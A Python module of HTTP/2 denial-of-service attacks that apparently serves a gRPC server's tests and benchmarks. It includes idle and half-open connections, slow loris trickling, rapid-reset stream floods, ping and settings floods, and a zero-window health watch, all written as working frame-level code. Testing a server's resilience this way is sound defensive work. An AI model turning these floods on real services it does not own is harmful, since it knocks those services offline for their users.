"""Callers that misbehave, below gRPC: raw HTTP/2 frames, and too few or too many of them.

Each attack is a context manager that opens it, keeps it up, and closes every connection at the end.
Tests and ``python -m tests.attacks`` use the same ones.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from benchmarks.harness import CLASSIFY_PATH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GREETING = PREFACE + SettingsFrame(0).serialize()
# Prefix of a gRPC message of one image: not compressed, 787 bytes.
MESSAGE_PREFIX = b"\0" + (787).to_bytes(4, "big")
# How often a paced attack sends.
TICK_S = 0.01
CANCEL = 8
WATCH_PATH = "/grpc.health.v1.Health/Watch"


def idle(address: str, connections: int) -> contextlib.AbstractContextManager[None]:
    """Callers that say hello and then nothing."""
    return _held(address, connections, GREETING)


def half_open(address: str, connections: int) -> contextlib.AbstractContextManager[None]:
    """Callers that connect and say nothing at all."""
    return _held(address, connections, b"")


def half_sent(
    address: str, connections: int, calls: int, body: bytes = MESSAGE_PREFIX + b"half"
) -> contextlib.AbstractContextManager[None]:
    """Callers that begin calls, stop in the middle of a DATA frame, and keep the connection."""
    encoder = Encoder()
    streams = range(1, 2 * calls, 2)
    opened = b"".join(headers(encoder, stream) + data(stream, body) for stream in streams)
    unfinished = headers(encoder, 2 * calls + 1) + data(2 * calls + 1, body)[:-2]
    return _held(address, connections, GREETING + opened + unfinished)


@contextlib.contextmanager
def trickled(address: str, connections: int) -> Iterator[None]:
    """Callers that send a good call a byte at a time, 20 bytes a second each (slow loris)."""
    encoder = Encoder()
    whole = GREETING + headers(encoder, 1) + data(1, MESSAGE_PREFIX + bytes(787))
    with contextlib.ExitStack() as sockets:
        callers = [sockets.enter_context(_connect(address)) for _ in range(connections)]

        def drip(ended: threading.Event) -> None:
            for byte in whole:
                for caller in callers:
                    with contextlib.suppress(OSError):  # a server may close it: that is allowed
                        caller.send(bytes((byte,)))
                if ended.wait(0.05):
                    return

        with _thread(drip):
            yield


def reset_flood(address: str, rate: float) -> contextlib.AbstractContextManager[list[int]]:
    """Calls that are cancelled in the same packet that begins them (rapid reset).

    Bytes are put together without a library: it would keep one core busy beside the server.
    """
    encoder, streams = Encoder(), itertools.count(1, 2)
    headers(encoder, 1)  # from here on the header block is a few indices
    block = headers(encoder, 1)[9:]
    begun = len(block).to_bytes(3, "big") + bytes((HeadersFrame.type, 4))
    reset = (4).to_bytes(3, "big") + bytes((RstStreamFrame.type, 0))
    cancel = CANCEL.to_bytes(4, "big")

    def frames(count: int) -> bytes:
        numbers = [stream.to_bytes(4, "big") for stream in itertools.islice(streams, count)]
        return b"".join([begun + n + block + reset + n + cancel for n in numbers])

    def begin() -> bytes:
        nonlocal streams
        streams = itertools.count(3, 2)
        return GREETING + headers(Encoder(), 1) + reset + (1).to_bytes(4, "big") + cancel

    return _flood(address, rate, begin, frames)


def ping_flood(
    address: str, rate: float, *, reads: bool = True
) -> contextlib.AbstractContextManager[list[int]]:
    """Pings, whose answers may be left unread."""
    ping = PingFrame(0, opaque_data=b"abuse!!!").serialize()
    return _flood(address, rate, lambda: GREETING, lambda count: ping * count, reads=reads)


def settings_flood(
    address: str, rate: float, *, reads: bool = True
) -> contextlib.AbstractContextManager[list[int]]:
    """Settings, each of which asks for an acknowledgement, which may be left unread."""
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    return _flood(address, rate, lambda: GREETING, lambda count: frame * count, reads=reads)


@contextlib.contextmanager
def unread_watch(address: str, service: str) -> Iterator[None]:
    """A caller that watches a service's health and lets no byte of an answer be sent."""
    window = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    request = b"\x0a" + bytes([len(service)]) + service.encode()
    message = DataFrame(1, data=b"\0" + len(request).to_bytes(4, "big") + request)
    message.flags.add("END_STREAM")
    # Without this the server would end the connection as one that never began.
    acknowledged = SettingsFrame(0, flags=["ACK"])
    said = window.serialize() + headers(Encoder(), 1, WATCH_PATH) + message.serialize()
    said += acknowledged.serialize()
    with _connect(address) as caller:
        caller.sendall(PREFACE + said)
        # Headers are not held back: when they come, the answer's message is waiting.
        while not isinstance(_read_frame(caller), HeadersFrame):
            pass
        yield


def headers(encoder: Encoder, stream: int, path: str = CLASSIFY_PATH) -> bytes:
    frame = HeadersFrame(stream)
    frame.data = encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "abuse"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    frame.flags.add("END_HEADERS")
    return bytes(frame.serialize())


def data(stream: int, data: bytes) -> bytes:
    """A message in frames of the size that every peer takes."""
    chunks = (data[start : start + 16_384] for start in range(0, len(data), 16_384))
    return b"".join(DataFrame(stream, data=chunk).serialize() for chunk in chunks)


def _read_frame(caller: socket.socket) -> Frame:
    frame, length = Frame.parse_frame_header(memoryview(_read(caller, 9)))
    _read(caller, length)
    return frame


def _read(caller: socket.socket, length: int) -> bytes:
    received = b""
    while len(received) < length:
        chunk = caller.recv(length - len(received))
        if not chunk:
            raise ConnectionError("the server ended the connection")
        received += chunk
    return received


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=10)


@contextlib.contextmanager
def _held(address: str, connections: int, said: bytes) -> Iterator[None]:
    """Connections that said something once and stay."""
    with contextlib.ExitStack() as sockets:
        for _ in range(connections):
            caller = sockets.enter_context(_connect(address))
            caller.sendall(said)
        yield


@contextlib.contextmanager
def _flood(
    address: str,
    rate: float,
    begin: Callable[[], bytes],
    frames: Callable[[int], bytes],
    *,
    reads: bool = True,
) -> Iterator[list[int]]:
    """Frames without end on one connection, and on the next one when the server has had enough.

    Args:
        address: Where.
        rate: Frames a second.
        begin: What a connection begins with.
        frames: Makes so many frames.
        reads: Whether answers are read.

    Yields:
        A list with one count of frames for each connection so far.
    """
    sent: list[int] = []

    def pour(ended: threading.Event) -> None:
        while not ended.is_set():
            sent.append(0)
            with contextlib.suppress(OSError), _connect(address) as caller:
                caller.sendall(begin())
                caller.settimeout(TICK_S)
                _pour_into(caller, ended)
            ended.wait(TICK_S)

    def _pour_into(caller: socket.socket, ended: threading.Event) -> None:
        waiting, due = b"", 0.0
        began = time.monotonic()
        while not ended.is_set():
            due = (time.monotonic() - began) * rate - sent[-1]
            if not waiting and due >= 1:
                sent[-1] += int(due)
                waiting = frames(int(due))
            with contextlib.suppress(TimeoutError):
                waiting = waiting[caller.send(waiting) :] if waiting else b""
            if reads:
                with contextlib.suppress(TimeoutError):
                    if not caller.recv(2**20):
                        return
            else:
                ended.wait(TICK_S)

    with _thread(pour):
        yield sent


@contextlib.contextmanager
def _thread(work: Callable[[threading.Event], None]) -> Iterator[None]:
    ended = threading.Event()
    thread = threading.Thread(target=work, args=(ended,))
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()
